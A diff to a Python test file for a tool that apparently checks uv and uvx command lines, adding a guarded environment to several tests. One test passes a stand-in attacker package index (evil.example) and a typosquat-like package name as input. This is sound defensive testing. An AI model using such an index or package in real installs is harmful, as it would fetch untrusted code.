@@ -14,6 +14,7 @@ import tempfile
 from pathlib import Path
 
 import pytest
+from install_env import GUARDED_ENV
 from launched import BUILT, bash_cell, installed
 from real_uv import real_uv
 
@@ -51,10 +52,12 @@ def test_each_uv_commands_own_table_is_what_the_real_uv_takes(command):
 def test_uvx_reads_its_own_options_deny_by_default():
     """An option of another uv command (uv would refuse it) is no option of uvx: refused,
     not read as a flag whose value would be the tool."""
-    (request,) = read_requests(["uvx", "--max-recursion-depth", "3", "black"], None, {}, "/")
+    (request,) = read_requests(
+        ["uvx", "--max-recursion-depth", "3", "black"], None, dict(GUARDED_ENV), "/"
+    )
     assert any("--max-recursion-depth" in p for p in request.problems)
     argv = ["uvx", "--python-fetch", "never", "--index-url", "https://evil.example/simple"]
-    (request,) = read_requests(argv + ["--from", "torcj", "black"], None, {}, "/")
+    (request,) = read_requests(argv + ["--from", "torcj", "black"], None, dict(GUARDED_ENV), "/")
     assert "torcj" in [r.name for r in request.requirements] and not request.problems
 
 
@@ -66,7 +69,7 @@ def test_uvx_python_is_the_interpreter_not_a_package(tool):
     as an imitation of ipython); its --with packages are still read."""
     assert arguments.uv_python_tool(tool.split()[-1])
     argv = ["uvx", "--with", "numpy", *tool.split(), "-c", "print(1)"]
-    (request,) = read_requests(argv, None, {}, "/")
+    (request,) = read_requests(argv, None, dict(GUARDED_ENV), "/")
     names = [r.name for r in request.requirements]
     assert "python" not in names and "numpy" in names
     assert not arguments.uv_python_tool("pythonw") and not arguments.uv_python_tool("ipython")
